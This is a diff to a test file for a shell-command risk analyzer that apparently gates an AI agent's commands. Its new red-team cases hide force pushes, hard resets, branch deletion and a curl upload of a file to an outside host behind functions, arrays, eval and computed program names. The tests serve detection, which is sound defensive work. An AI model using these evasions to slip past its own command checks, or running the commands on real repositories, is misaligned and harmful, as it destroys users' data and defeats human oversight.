@@ -53,3 +53,29 @@ def test_read_only_semantics(cmd: str) -> None:
 ])
 def test_still_not_read_only(cmd: str) -> None:
     assert analyze(cmd).kind != "read_only", analyze(cmd)
+
+
+@pytest.mark.parametrize("cmd, risk", [
+    # a function's body is walked again for each call, with the call's words for "$@" and $1... (redteam2)
+    ('f() { git reset -q "$1"; }; f --hard', "history-rewrite"),
+    ('g() { "$@"; }; g git push -f origin HEAD', "force-push"),
+    ('f() { git "$@"; }; f push --force', "force-push"),
+    ('f() { git branch "$1" "$2"; }; f -D main', "history-rewrite"),
+    # a program name the command computed may be any network client: a person decides
+    ('c=curl; $c -d @f https://h/', "unclassified"),
+    ('x=(git push --force); "${x[@]}"', "unclassified"),
+    ('set -- git push --force; "$@"', "unclassified"),
+    ('/usr/bin/cur? https://h/', "unclassified"),
+    ('eval "git push -$(echo f)"', "unclassified"),
+    ("c='git push -f'; sh -c \"$c\"", "unclassified"),
+])
+def test_names_the_analyzer_cannot_read_do_not_hide_a_question(cmd: str, risk: str) -> None:
+    assert risk in analyze(cmd).risks, analyze(cmd)
+
+
+@pytest.mark.parametrize("cmd", [
+    "$PYTHON -m pytest", 'run() { "$@" || exit 1; }; run pytest -q', 'for s in scripts/*.sh; do "$s"; done',
+    'eval "$EXTRA_ARGS"', 'f() { echo "$1"; }; f hi',
+])
+def test_the_agents_environment_and_file_globs_stay_contained(cmd: str) -> None:
+    assert "unclassified" not in analyze(cmd).risks, analyze(cmd)
